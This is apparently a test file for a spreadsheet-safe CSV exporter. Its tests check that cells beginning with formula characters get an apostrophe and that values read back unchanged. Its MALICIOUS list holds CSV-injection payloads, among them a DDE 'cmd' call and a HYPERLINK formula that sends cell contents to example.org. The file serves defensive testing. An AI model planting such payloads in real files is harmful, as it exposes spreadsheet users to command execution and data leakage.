"""Text that a spreadsheet would run is told as text, and comes back as it was."""

import csv
import io
import re

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from data.formats.reading import tables
from data.formats.spreadsheet import as_csv, restored

# What spreadsheets take for the beginning of a formula (OWASP, CSV Injection).
SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
MALICIOUS = ['=HYPERLINK("http://example.org?"&A1,"Oak")', "=cmd|' /C calc'!A0", "@SUM(A1)", "+1", "-2+3", "  =1+1"]


def cells(table):
    """The cells of a table's first column as a spreadsheet reads them."""
    return [row[0] for row in csv.reader(io.StringIO(as_csv(table)))][1:]


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", ["", " ", " \u00a0 "])
def test_text_that_begins_as_a_formula_begins_with_an_apostrophe(sign, before):
    (cell,) = cells(pd.DataFrame({"school": [f"{before}{sign}1+1"]}))
    assert cell == f"'{before}{sign}1+1".replace("\r", "\n")


def test_other_text_and_numbers_stay_as_they_are():
    table = pd.DataFrame(
        {
            "school": ["Oak = Elm", "O'Neill", None],
            "change": [-1.5, 2.0, None],
            "moved": pd.array([-3, None, 7], dtype="Int64"),
            "host": [True, False, True],
        }
    )
    assert as_csv(table).splitlines() == [
        "school,change,moved,host",
        "Oak = Elm,-1.5,-3,True",
        "O'Neill,2.0,,False",
        ",,7,True",
    ]


@given(st.lists(st.text(st.sampled_from([*SIGNS, "'", " ", "a", '"', ","]), min_size=1, max_size=6), min_size=1))
def test_no_cell_begins_as_a_formula_and_all_come_back(names):
    told = cells(pd.DataFrame({"school": pd.Series(names, dtype="str")}))
    assert not [cell for cell in told if cell.lstrip().startswith(tuple("=+-@＝＋－＠")) or cell[:1] in SIGNS]
    assert restored(pa.chunked_array([told], pa.string())).to_pylist() == [
        re.sub("\r\n?", "\n", name) for name in names
    ]


def test_a_file_of_ours_read_back_has_its_names(tmp_path):
    path = tmp_path / "told.csv"
    path.write_text(as_csv(pd.DataFrame({"school": MALICIOUS, "students": range(6)})), encoding="utf-8")
    (read,) = tables(path)
    assert read.frame()["school"].tolist() == MALICIOUS
